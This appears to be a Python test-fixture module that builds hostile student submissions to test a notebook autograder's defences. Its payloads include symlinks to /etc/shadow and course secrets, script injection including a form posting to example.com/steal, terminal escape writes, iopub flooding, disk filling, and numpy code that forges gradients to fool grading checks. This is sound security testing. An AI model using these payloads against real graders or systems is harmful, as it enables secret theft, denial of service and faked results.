"""Attacks on the grading perimeter (issue #29): what a submission can carry in besides its notebook,
what its kernel can send out, and results forged without the exercise's code.

Each attack is a ``build(folder, course)`` that writes one submission into ``folder``
(``submitted/<student>/art_generation/``, already holding a copy of the release), and the exercises
it implements correctly: only they may earn points (``implemented=None``: the submission must not be
graded at all). ``look`` is text that the report's "needs a human look" row of the submission must
hold (its reason), or None where any reason will do. ``kind`` is the issue's class of the attack.

Kernel-side attacks that leave every exercise correct are added in the notebook's last cell, after
every graded cell, so that what they do afterwards cannot cost a point that the test then has to
guess; those that fake results replace the exercises' cells.
"""

import dataclasses
import os
import socket
import stat
from pathlib import Path

import nbformat

from course import cell_by_grade_id, copy_notebook
from helpers import bind_unix_socket
from nst_checks import FUNCTIONS
from submission_corpus import with_sources

NOTEBOOK = "Art_Generation_with_Neural_Style_Transfer.ipynb"
SOURCE_NOTEBOOK = Path("notebooks") / "art_generation" / NOTEBOOK  # in the course
EVERY_EXERCISE = frozenset(FUNCTIONS)
# Markers that the test looks for in what comes back out.
CONSOLE_MARK = "NST-CONSOLE-ATTACK"
SCRIPT_MARK = "nst-student-script"
FILLER_MARK = "FILLER WROTE"


@dataclasses.dataclass(frozen=True)
class Course:
    """What an attack may use: the course folder, the released notebook (nothing implemented), the
    solved one (every exercise right), and the student id of a peer whose notebook is submitted."""

    root: Path
    release: object
    solved: object
    peer: str


@dataclasses.dataclass(frozen=True)
class Attack:
    kind: str
    build: object  # (folder, course) -> None
    implemented: frozenset | None
    look: str | None = None
    needs_root: bool = False


def _write(folder, notebook):
    nbformat.write(notebook, folder / NOTEBOOK)


def _last_cell(code):
    """The solved notebook with ``code`` in a new last cell."""

    def notebook(course):
        solved = copy_notebook(course.solved)
        solved.cells.append(nbformat.v4.new_code_cell(code.strip("\n")))
        return solved

    return notebook


# ------------------------------------------------------------------------------------------------
# Files in: links, devices, FIFOs and sockets beside a notebook


# An exercise cell that does not implement its function but runs the source notebook's solution,
# read from a file beside the notebook. GRADE_ID: the exercise's cell.
RUN_SOLUTION_FROM = """
import json
with open("{name}") as file:
    source_cells = json.load(file)["cells"]
exec(next("".join(cell["source"]) for cell in source_cells
          if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "{grade_id}"), globals())
"""


def _solutions_read_from(name):
    """A notebook whose every exercise runs the source notebook's solution from the file ``name``."""

    def notebook(course):
        return with_sources(
            course.release,
            {grade_id: RUN_SOLUTION_FROM.format(name=name, grade_id=grade_id) for grade_id in FUNCTIONS.values()},
        )

    return notebook


def _with_entry(make_entry, notebook=lambda course: course.solved):
    """An attack builder: ``notebook(course)`` as the notebook and ``make_entry(folder, course)`` beside it."""

    def build(folder, course):
        _write(folder, notebook(course))
        make_entry(folder, course)

    return build


def _symlink(name, target):
    """``make_entry`` for a symbolic link ``name`` -> ``target(course)`` (a str: kept as written)."""

    def make_entry(folder, course):
        os.symlink(target(course), folder / name)

    return make_entry


def _notebook_is_link_to_peer(folder, course):
    (folder / NOTEBOOK).unlink(missing_ok=True)
    os.symlink(course.root / "submitted" / course.peer / "art_generation" / NOTEBOOK, folder / NOTEBOOK)


def _hard_link_to_source(folder, course):
    os.link(course.root / SOURCE_NOTEBOOK, folder / "solutions.ipynb")


def _fifo(folder, course):
    os.mkfifo(folder / "pipe")


def _zero_device(folder, course):
    """A character device node: /dev/zero's (major 1, minor 5), made with mknod (needs root)."""
    os.mknod(folder / "zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))


def _socket(folder, course):
    with socket.socket(socket.AF_UNIX) as server:
        bind_unix_socket(server, folder)


# ------------------------------------------------------------------------------------------------
# Outputs out


PRINT_HIDDEN_TESTS = """
ip = get_ipython()
print("IN:", In)
print("_IH:", _ih)
print("HISTORY:", [entry for entry in ip.history_manager.get_range(raw=True)])
print("GLOBALS:", {name: repr(value)[:300] for name, value in globals().items() if not name.startswith("__")})
print("NST_CHECKS:", {name: repr(value)[:300] for name, value in vars(nst_checks).items()})
"""

SCRIPTS = f"""
from IPython.display import HTML, display
display(HTML("<script>window.nstStudentScript = '{SCRIPT_MARK}-script';</script><b>a script</b>"))
display(HTML('<img src="x" onerror="window.nstStudentScript = &quot;{SCRIPT_MARK}-onerror&quot;">'))
display(HTML('<a id="nst-link" href="javascript:window.nstStudentScript=&quot;{SCRIPT_MARK}-href&quot;">click</a>'))
display(HTML('<iframe srcdoc="<script>parent.nstStudentScript=&quot;{SCRIPT_MARK}-iframe&quot;</script>"></iframe>'))
display(HTML('<form action="https://example.com/steal"><input name="grade"></form>'))
display({{"application/javascript": "window.nstStudentScript = '{SCRIPT_MARK}-javascript';"}}, raw=True)
"""
SCRIPT_MARKDOWN = (
    f"<script>window.nstStudentScript = '{SCRIPT_MARK}-markdown';</script>\n\n"
    f'<img src="x" onerror="window.nstStudentScript = \'{SCRIPT_MARK}-markdown-onerror\'">'
)


def _scripts(course):
    """The scripts in the last cell's outputs at grading, in the outputs it was submitted with (as if
    run before handing in: feedback shows those), and in a markdown cell."""
    notebook = _last_cell(SCRIPTS)(course)
    notebook.cells[-1].outputs = [
        nbformat.v4.new_output(
            "display_data",
            {
                "text/html": f"<script>window.nstStudentScript = '{SCRIPT_MARK}-submitted';</script>",
                "application/javascript": f"window.nstStudentScript = '{SCRIPT_MARK}-submitted-javascript';",
                "text/plain": "<IPython.core.display.HTML object>",
            },
        )
    ]
    notebook.cells.append(nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
    return notebook


# Bytes and escape sequences at every file descriptor that could be a console (a pipe or a
# character device: the grader's stdout and stderr, if the kernel inherited them), through the
# streams Python opened at start, and at the controlling terminal.
CONSOLE_WRITES = f"""
import os, stat, sys
payload = b"\\x1b[2J\\x1b]0;{CONSOLE_MARK}\\x07\\xff\\xfe\\x00 {CONSOLE_MARK} raw\\r\\n"
for fd in range(64):
    try:
        mode = os.fstat(fd).st_mode
        if stat.S_ISFIFO(mode) or stat.S_ISCHR(mode):
            os.write(fd, payload)
    except OSError:
        pass
for stream in (sys.__stdout__, sys.__stderr__):
    try:
        stream.write(payload.decode("latin-1"))
        stream.flush()
    except Exception:
        pass
try:
    with open("/dev/tty", "wb", buffering=0) as tty:
        tty.write(payload)
except OSError:
    pass
os.system("printf '\\\\033[31m{CONSOLE_MARK} from a shell\\\\n' >&2")
print("console written")
"""

# ------------------------------------------------------------------------------------------------
# Results forged without TensorFlow

# Each exercise's cost in numpy (float64), as a student who knows the formulas but not TensorFlow
# would write it. ``style_layers`` and ``alpha``, ``beta`` as the exercises take them.
NUMPY_COSTS = """
import numpy as np

def numpy_content_cost(a_C, a_G):
    return np.sum((a_C - a_G) ** 2) / (4 * a_G.size)

def numpy_gram_matrix(A):
    return A @ A.T

def numpy_layer_style_cost(a_S, a_G):
    n_C = a_G.shape[-1]
    S, G = a_S.reshape(-1, n_C).T, a_G.reshape(-1, n_C).T
    return np.sum((S @ S.T - G @ G.T) ** 2) / (4 * n_C**2 * (S.shape[1]) ** 2)

def numpy_style_cost(style, generated, style_layers):
    return sum(coefficient * numpy_layer_style_cost(style[name], generated[name]) for name, coefficient in style_layers)

def numpy_total_cost(J_content, J_style, alpha=10, beta=40):
    return alpha * J_content + beta * J_style
"""

# A cost computed in numpy, wrapped to look like a tensor (tf.numpy_function), whose hand-made
# gradient is right only along the direction that nst_checks.fingerprint_weights fixed before issue
# #29 (the gradients' fingerprint, read from its source): a central difference along it, put on it.
# The other exercises are not implemented.
FAKED_GRADIENT = (
    NUMPY_COSTS
    + """
def public_direction(size):  # nst_checks.fingerprint_weights before issue #29
    return np.random.RandomState(0).uniform(-1.0, 1.0, size)

def along_public_direction(numpy_cost, output_shape):
    def forward(*arrays):
        return np.asarray(numpy_cost(*(np.asarray(array, np.float64) for array in arrays)), np.float32)

    def backward(index, upstream, *arrays):
        arrays = [np.asarray(array, np.float64) for array in arrays]
        direction = public_direction(arrays[index].size).reshape(arrays[index].shape)
        shifted = [[*arrays[:index], arrays[index] + sign * 1e-3 * direction, *arrays[index + 1:]] for sign in (1, -1)]
        slope = np.sum(upstream * (numpy_cost(*shifted[0]) - numpy_cost(*shifted[1]))) / 2e-3
        return (slope / np.sum(direction**2) * direction).astype(np.float32)

    @tf.custom_gradient
    def cost(*tensors):
        value = tf.numpy_function(forward, list(tensors), tf.float32)
        value.set_shape(output_shape(*tensors))

        def gradient(upstream):
            gradients = []
            for index, tensor in enumerate(tensors):
                gradients.append(tf.numpy_function(backward, [index, upstream, *tensors], tf.float32))
                gradients[-1].set_shape(tensor.shape)
            return gradients

        return value, gradient

    return cost
"""
)
FAKED_CELLS = {
    "compute_content_cost": FAKED_GRADIENT
    + "\ncompute_content_cost = along_public_direction(numpy_content_cost, lambda a_C, a_G: ())\n",
    "gram_matrix": "gram_matrix = along_public_direction(numpy_gram_matrix, lambda A: (A.shape[0], A.shape[0]))\n",
    "compute_layer_style_cost": (
        "compute_layer_style_cost = along_public_direction(numpy_layer_style_cost, lambda a_S, a_G: ())\n"
    ),
}

# nst_checks.measure replaced in the kernel: numpy results reported as tensors, with a numerical
# gradient taken along one direction only (a central difference along the direction of the fixed
# fingerprint that nst_checks used before issue #29, put on that direction), no TensorFlow at all. It
# reports in whichever form nst_checks.report sends: the fingerprints of before (``summarise``), or
# the whole entries (``entries``).
REPLACED_MEASURE = (
    NUMPY_COSTS
    + """
import nst_checks

NUMPY = {"content_cost": numpy_content_cost, "gram_matrix": numpy_gram_matrix,
         "layer_style_cost": numpy_layer_style_cost, "style_cost": numpy_style_cost,
         "total_cost": numpy_total_cost}

def public_direction(size):  # nst_checks.fingerprint_weights before issue #29
    return np.random.RandomState(0).uniform(-1.0, 1.0, size)

def numpy_measure(exercise, function, case, namespace=None):
    arrays, targets = nst_checks.make_inputs(exercise, case)
    if exercise not in NUMPY:
        return {"eager": {"error": "not done"}, "graph": {"error": "not done"}}
    arrays = [{name: np.asarray(value, np.float64) for name, value in array.items()} if isinstance(array, dict)
              else np.asarray(array, np.float64) if isinstance(array, np.ndarray | np.generic) else array
              for array in arrays]
    keys = [(position, name) for position in targets
            for name in (arrays[position] if isinstance(arrays[position], dict) else [None])]
    value = np.asarray(NUMPY[exercise](*arrays), np.float64)
    upstream = getattr(nst_checks, "gradient_direction", lambda *_: None)(exercise, case)
    upstream = public_direction(value.size).reshape(value.shape) if upstream is None and value.ndim else upstream

    def objective(shift):
        shifted, offset = [dict(array) if isinstance(array, dict) else array for array in arrays], 0
        for position, name in keys:
            entry = shifted[position] if name is None else shifted[position][name]
            moved = entry + shift[offset:offset + np.size(entry)].reshape(np.shape(entry))
            offset += np.size(entry)
            if name is None:
                shifted[position] = moved
            else:
                shifted[position][name] = moved
        result = np.asarray(NUMPY[exercise](*shifted), np.float64)
        return float(np.sum(result * upstream)) if result.ndim else float(result)

    size = sum(np.size(arrays[position] if name is None else arrays[position][name]) for position, name in keys)
    direction = public_direction(size)
    slope = (objective(1e-3 * direction) - objective(-1e-3 * direction)) / 2e-3
    if hasattr(nst_checks, "entries"):
        run = {"kind": "tensor", "shape": list(value.shape), "value": nst_checks.entries(value),
               "gradient": nst_checks.entries(slope / np.sum(direction**2) * direction)}
    else:
        shape, fingerprint, _ = nst_checks.summarise(value)
        run = {"kind": "tensor", "shape": shape, "value": fingerprint, "gradient": slope}
    return {"eager": run, "graph": dict(run)}

nst_checks.measure = numpy_measure
"""
)


def _faked_gradient(course):
    return with_sources(course.release, FAKED_CELLS)


def _replaced_measure(course):
    stub = cell_by_grade_id(course.release, "compute_content_cost").source
    return with_sources(course.release, {"compute_content_cost": REPLACED_MEASURE + "\n\n" + stub})


# ------------------------------------------------------------------------------------------------
# Load that spills over

# iopub: 1000 messages of 256 KB with a parent header that no request of the grader has, then the
# same from a thread that goes on after the cell has ended (until the kernel is stopped), and 5 MB
# in this cell's own output.
IOPUB_FLOOD = """
import threading
kernel = get_ipython().kernel
foreign = {"header": {"msg_id": "not-a-request-of-the-grader", "msg_type": "execute_request", "session": "other",
                      "username": "other", "date": "2020-01-01T00:00:00.000000Z", "version": "5.3"}}
chunk = {"name": "stdout", "text": "x" * 2**18}

def flood(count):
    for _ in range(count):
        kernel.session.send(kernel.iopub_socket, "stream", chunk, parent=foreign)

flood(1000)
threading.Thread(target=flood, args=(10**9,), daemon=True).start()
for _ in range(20):
    print("y" * 2**18, flush=True)
"""

# 60 MB files into every folder the kernel may write, until a write fails (at most 1.2 GB a folder).
DISK_FILLER = f"""
import json, os, tempfile
from ipykernel.kernelapp import IPKernelApp
folders = {{os.getcwd(), os.path.expanduser("~"), os.path.expanduser("~/.cache"), tempfile.gettempdir(), "/tmp",
           "/dev/shm", os.environ.get("MPLCONFIGDIR", ""), os.environ.get("IPYTHONDIR", ""),
           os.path.dirname(IPKernelApp.instance().connection_file)}}  # its private folder, on the host's disk
written = {{}}
block = b"\\xa5" * 2**20
for folder in sorted(folder for folder in folders if folder):
    written[folder] = 0
    for index in range(20):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, f"filler-{{index}}.bin"), "wb") as file:
                for _ in range(60):
                    file.write(block)
                    written[folder] += 1
        except OSError as error:
            print(folder, "stopped:", error)
            break
print("{FILLER_MARK}", json.dumps(written))
"""


ATTACKS = {
    # Links of each kind beside the notebook: the copy must follow none of them.
    "link_to_source_notebook": Attack(
        "links",
        _with_entry(
            _symlink("solutions.ipynb", lambda course: course.root / SOURCE_NOTEBOOK),
            _solutions_read_from("solutions.ipynb"),
        ),
        frozenset(),
        "solutions.ipynb (is a symbolic link)",
    ),
    "relative_link_escaping": Attack(
        "links",
        _with_entry(
            _symlink("solutions.ipynb", lambda course: os.path.join("..", "..", "..", SOURCE_NOTEBOOK)),
            _solutions_read_from("solutions.ipynb"),
        ),
        frozenset(),
        "solutions.ipynb (is a symbolic link)",
    ),
    "link_to_gradebook": Attack(
        "links",
        _with_entry(_symlink("grades.db", lambda course: course.root / "gradebook.db")),
        EVERY_EXERCISE,
        "grades.db (is a symbolic link)",
    ),
    "link_to_etc_shadow": Attack(
        "links",
        _with_entry(_symlink("shadow", lambda course: "/etc/shadow")),
        EVERY_EXERCISE,
        "shadow (is a symbolic link)",
    ),
    "link_to_course_secret": Attack(
        "links",
        _with_entry(
            _symlink("key.txt", lambda course: course.root / "course_secret.key"),
            _last_cell('print("KEY:", open("key.txt").read())'),
        ),
        EVERY_EXERCISE,
        "key.txt (is a symbolic link)",
    ),
    "dangling_link": Attack(
        "links",
        _with_entry(_symlink("notes.txt", lambda course: os.path.join("..", "not-there", "notes.txt"))),
        EVERY_EXERCISE,
        "notes.txt (is a symbolic link)",
    ),
    "notebook_is_link_to_peer": Attack(
        "links", _notebook_is_link_to_peer, None, f"{NOTEBOOK} is a symbolic link: not graded"
    ),
    "hard_link_to_source_notebook": Attack(
        "links",
        _with_entry(_hard_link_to_source, _solutions_read_from("solutions.ipynb")),
        frozenset(),
        "solutions.ipynb (has 2 names (a hard link))",
    ),
    # Devices and FIFOs: a copy that reads them blocks for good (or reads forever).
    "link_to_dev_zero": Attack(
        "devices", _with_entry(_symlink("data.bin", lambda course: "/dev/zero")), EVERY_EXERCISE, "data.bin"
    ),
    "fifo": Attack("devices", _with_entry(_fifo), EVERY_EXERCISE, "pipe (is a FIFO)"),
    "character_device": Attack(
        "devices", _with_entry(_zero_device), EVERY_EXERCISE, "zero (is a character device)", needs_root=True
    ),
    "socket": Attack("devices", _with_entry(_socket), EVERY_EXERCISE, "socket (is a socket)"),
    # Outputs that go back out.
    "print_hidden_tests": Attack(
        "outputs", lambda folder, course: _write(folder, _last_cell(PRINT_HIDDEN_TESTS)(course)), EVERY_EXERCISE
    ),
    "scripts_in_outputs": Attack("outputs", lambda folder, course: _write(folder, _scripts(course)), EVERY_EXERCISE),
    "console_writes": Attack(
        "console", lambda folder, course: _write(folder, _last_cell(CONSOLE_WRITES)(course)), EVERY_EXERCISE
    ),
    # Results forged without the exercises' TensorFlow code.
    "gradient_faked_along_public_direction": Attack(
        "results", lambda folder, course: _write(folder, _faked_gradient(course)), frozenset()
    ),
    "replaced_measuring_function": Attack(
        "results", lambda folder, course: _write(folder, _replaced_measure(course)), frozenset()
    ),
    # Load that spills over.
    "iopub_flood": Attack(
        "load", lambda folder, course: _write(folder, _last_cell(IOPUB_FLOOD)(course)), EVERY_EXERCISE
    ),
    "disk_filler": Attack(
        "load", lambda folder, course: _write(folder, _last_cell(DISK_FILLER)(course)), EVERY_EXERCISE
    ),
}
